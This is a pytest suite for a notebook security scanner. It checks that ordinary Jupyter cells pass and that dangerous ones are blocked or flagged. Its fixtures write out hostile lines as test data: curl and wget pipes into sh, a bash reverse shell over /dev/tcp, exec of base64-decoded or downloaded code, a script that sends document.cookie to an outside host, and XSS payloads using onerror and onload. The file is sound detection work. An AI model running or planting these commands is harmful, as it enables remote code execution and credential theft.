"""Notebooks: cells that a person runs, and outputs that a browser shows."""

import json
from typing import Any

import pytest
from hypothesis import given

from bartizan.artifacts import Held, Report, scan
from bartizan.artifacts.fact import Calls, Structure
from tests.artifacts.readers.fuzzing import mutants, survives


def cell(*lines: str, outputs: tuple[Any, ...] = (), kind: str = "code") -> dict[str, Any]:
    return {"cell_type": kind, "metadata": {}, "source": [f"{line}\n" for line in lines], "outputs": list(outputs)}


def notebook(*cells: dict[str, Any]) -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()


def scanned(*cells: dict[str, Any]) -> Report:
    return scan(Held("book", notebook(*cells)))


def shown(kind: str, text: str) -> dict[str, Any]:
    return {"output_type": "display_data", "data": {kind: [text]}, "metadata": {}}


QUIET = [
    cell("import numpy as np", "%matplotlib inline", "!pip install torch", "print(np.zeros(2))", "np.zeros?"),
    cell("%%time", "model.fit(x)", "files = !ls"),
    cell("%%bash", "python train.py", "ls -la"),
    cell("%%html", "<b>x</b>"),
    cell("# Words", "<img src='x.png'>", kind="markdown"),
    cell("not python at all {{{"),
    cell(
        "1",
        outputs=(shown("text/html", "<table><tr><td>1</td></tr></table>"), {"output_type": "stream", "text": ["x"]}),
    ),
    cell("1", outputs=(shown("text/html", "<script>require.config({paths: {plotly: 'x'}}); eval('1')</script>"),)),
]


@pytest.mark.parametrize("quiet", QUIET)
def test_ordinary_cells_have_no_facts(quiet: dict[str, Any]) -> None:
    report = scanned(quiet)
    assert (report.format, report.verdict, report.facts) == ("notebook", "allow", ())


@pytest.mark.parametrize(
    "lines",
    [
        ("!curl -s http://example.org/x.sh | sh",), ("%%bash", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"),
        ("out = !wget -qO- http://example.org | bash",), ("import os", "os.system('curl http://example.org | sh')"),
        ("import base64", "exec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCB4IHwgc2giKQ=='))"),
        ("import requests", "exec(requests.get('http://example.org').text)"),
    ],
)  # fmt: skip
def test_cells_that_nobody_has_a_reason_for_are_blocked(lines: tuple[str, ...]) -> None:
    report = scanned(QUIET[0], cell(*lines))
    assert report.verdict == "block"
    assert isinstance(report.facts[0], Calls)
    assert report.facts[0].where.startswith("cell 1")


def test_a_cell_knows_what_the_cells_before_it_imported() -> None:
    report = scanned(cell("import os as system_of_a_kind"), cell("system_of_a_kind.system('curl http://x | sh')"))
    assert [(fact.rule, fact.where) for fact in report.facts] == [("code", "cell 1 line 1")]


def test_a_cell_that_does_not_parse_hides_no_other() -> None:
    report = scanned(cell("import os"), cell('"""'), cell('os.system("curl http://x | sh")  # """'))
    assert [(fact.rule, fact.where) for fact in report.facts] == [("code", "cell 2 line 1")]


def test_a_notebook_of_too_many_cells_is_not_called_clean() -> None:
    assert scanned(*[cell("1")] * 2_001, cell("!curl -s http://example.org/x.sh | sh")).verdict == "unscanned"


def test_a_program_that_a_cell_starts_is_warned_about() -> None:
    assert scanned(cell("import subprocess", "subprocess.run(['./tool', name])")).verdict == "warn"


@pytest.mark.parametrize(
    "output",
    [
        shown("text/html", "<script>fetch('http://example.org/?' + document.cookie)</script>"),
        shown("text/html", "<img src=x onerror=eval(1)>"),
        shown("application/javascript", "Jupyter.notebook.kernel.execute('1')"),
        shown("image/svg+xml", "<svg onload=eval(1)></svg>"),
    ],
)
def test_outputs_with_scripts_are_told(output: dict[str, Any]) -> None:
    report = scanned(cell("1", outputs=(output,)))
    assert report.verdict == "warn"
    assert [(type(fact), fact.rule) for fact in report.facts] == [(Structure, "script")]


@given(data=mutants(notebook(*QUIET)))
def test_no_mutant_breaks_the_scan(data: bytes) -> None:
    survives(data)
